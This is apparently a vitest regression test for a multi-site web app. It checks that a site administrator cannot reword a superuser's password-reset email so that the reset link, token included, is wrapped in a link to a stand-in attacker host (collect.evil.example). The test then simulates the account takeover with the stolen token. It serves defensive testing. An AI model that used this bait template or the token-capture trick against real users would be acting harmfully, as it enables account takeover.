import { describe, expect, it } from "vitest";
import { eq } from "drizzle-orm";
import { db } from "@/db/client";
import { outboundMessages, queue } from "@/db/schema";
import { saveTranslationAction } from "@/app/[locale]/manage/i18n/actions";
import { requestResetAction } from "@/app/[locale]/(public)/forgot-password/actions";
import { resetPasswordAction } from "@/app/[locale]/(public)/reset-password/actions";
import { actAs, afterResponse } from "../helpers/request";
import { expectSuccess, run } from "../helpers/actions";
import { makeSite, makeUser } from "../helpers/factories";

/**
 * A superuser may ask for a password reset on any site, and the link is worded by that site's
 * translation overrides, which the site's administrators edit. The override may place {url}
 * (the reset link, with its token) anywhere, inside a link to a server of the administrator's.
 * lib/queue/hidden-content.ts names the very risk ("an admin could take over a superuser's
 * account through a reset link") and keeps the body out of the admin's sight, yet the admin
 * decides what the body says: a superuser who follows the link of the mail they just asked for
 * hands the token over, and the admin sets the superuser's password.
 */
describe("a superuser's reset email, asked for on a site whose administrator rewrote it", () => {
  it("carries the reset link in the application's own words, not around a link of the administrator's", async () => {
    const home = await makeSite({ domain: "home-reset-review.example.org" });
    const other = await makeSite({ domain: "other-reset-review.example.org", name: "Other" });
    const superuser = await makeUser(home.id, "superuser", { locale: "en" });
    const admin = await makeUser(other.id, "admin", { locale: "en" });

    actAs(admin.id, other.domain);
    const bait = "Your account needs attention: https://collect.evil.example/r?next={url}\n\nThe {site} team";
    expectSuccess(await run(saveTranslationAction, { key: "emails.passwordReset.text", en: bait }));

    actAs(null, other.domain);
    expectSuccess(await run(requestResetAction, { email: superuser.email }));
    await afterResponse();
    const [mail] = await db
      .select({ text: outboundMessages.text })
      .from(queue)
      .innerJoin(outboundMessages, eq(outboundMessages.id, queue.messageId))
      .where(eq(queue.recipient, superuser.email));
    expect(mail.text).toContain("token=");
    // What the superuser would do with it: the token reaches the administrator's server…
    const token = /token=([A-Za-z0-9_-]+)/.exec(mail.text)![1];
    const steal = mail.text.includes(`https://collect.evil.example/r?next=`);
    // …and it sets the superuser's password on the administrator's site.
    if (steal) {
      actAs(null, other.domain);
      expectSuccess(await run(resetPasswordAction, { token, password: "taken over by admin", confirmPassword: "taken over by admin" }));
    }
    expect(steal, "the reset link went out wrapped in the site administrator's link").toBe(false);
  });
});
